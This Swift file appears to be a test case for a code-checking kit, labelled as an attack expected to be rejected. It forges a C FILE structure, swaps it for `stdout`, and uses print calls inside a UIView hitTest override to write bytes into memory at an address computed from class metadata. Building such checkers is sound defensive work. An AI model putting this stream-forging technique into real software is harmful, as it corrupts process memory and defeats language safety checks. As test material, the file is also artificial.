// Attack: puts a made-up file in the place of stdout, written between backticks.
// Exercise: 3
// Expect: notAccepted
// Held by: a stream that the kit does not replace is on no list
import UIKit

func moved<S: Strideable>(_ place: S, by count: S.Stride) -> S { place.advanced(by: count) }
final class Fake { var words = InlineArray<60, Int>(repeating: 0) }

@MainActor enum Pen {
    static let real = `stdout`!
    static let fake = Fake()
    static let start = Int(String(describing: real).dropFirst(2), radix: 16)!
    static let target = Int(bitPattern: ObjectIdentifier(UIView.self)) + 0x188d60 - 0x16bf98
    static let offset: Int = {
        let begin = Int(bitPattern: ObjectIdentifier(fake)) + 16
        return (((start - begin) / 8) % 27 + 27) % 27
    }()
    static let place = moved(real, by: (Int(bitPattern: ObjectIdentifier(fake)) + 16 + offset * 8 - start) / 216)
    static func write(_ text: String) {
        fake.words[offset] = 0xfbad_8884
        fake.words[offset + 4] = target
        fake.words[offset + 5] = target
        fake.words[offset + 6] = target + 16
        fake.words[offset + 7] = target
        fake.words[offset + 8] = target + 16
        fake.words[offset + 17] = Int(bitPattern: ObjectIdentifier(fake)) + 16 + 55 * 8
        fake.words[offset + 24] = 0xFFFF_FFFF
        fake.words[offset + 27 ] = start + (-16768)
        `stdout` = place
        print(text, terminator: "")
        `stdout` = real
    }
}

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        Pen.write("\0\0\0\0")
        defer { Pen.write("\u{7F}\u{7F}\u{7F}\u{7F}") }
        return super.hitTest(point, with: event)
    }
}
